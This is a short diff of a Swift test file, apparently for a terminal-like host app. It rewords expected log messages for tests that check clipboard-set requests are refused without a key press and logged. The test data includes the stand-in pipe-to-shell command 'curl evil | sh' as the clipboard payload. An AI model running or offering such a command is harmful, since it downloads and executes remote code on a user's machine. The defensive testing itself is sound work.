@@ -112,7 +112,7 @@ import Testing
     #expect(host.sheet.isEmpty)
     #expect(host.sent(.primary).last?.contains("-32812") == true)
     #expect(
-      host.orders.last?.hasPrefix("log places: left out, the user has not asked for xxx") == true)
+      host.orders.last?.hasPrefix("log left out, the user has not asked for xxx") == true)
   }
 
   @Test("who has said no is not asked again before acting in the pane; the log tells of it")
@@ -189,7 +189,7 @@ import Testing
     host.notify(.primary, "clipboard.set", copy)
     #expect(!host.orders.contains { $0.hasPrefix("copy") })
     #expect(
-      host.orders.contains { $0.hasPrefix("log places: left out, clipboard.set without a key") })
+      host.orders.contains { $0.hasPrefix("log left out, clipboard.set without a key") })
     host.keys("down")
     host.notify(.primary, "clipboard.set", copy)
     #expect(host.orders.contains("copy curl evil | sh"))
